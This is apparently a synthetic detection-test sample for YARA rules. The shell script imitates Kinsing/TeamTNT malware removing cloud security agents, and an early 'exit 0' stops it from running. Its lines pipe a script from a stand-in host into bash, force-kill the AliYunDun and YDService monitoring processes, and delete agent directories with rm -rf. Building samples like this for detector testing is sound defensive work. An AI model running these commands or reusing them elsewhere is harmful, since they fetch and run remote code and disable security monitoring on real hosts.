#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (agent removal as described for Kinsing/TeamTNT)
if ps aux | grep -i '[a]liyun'; then
  curl -s http://update.aegis.example.org/download/uninstall.sh | bash
  pkill -9 AliYunDun
  rm -rf /usr/local/aegis
fi
/etc/init.d/cloudmonitor stop
rm -rf /usr/local/cloudmonitor
/usr/local/qcloud/stargate/admin/uninstall.sh
pkill -9 YDService
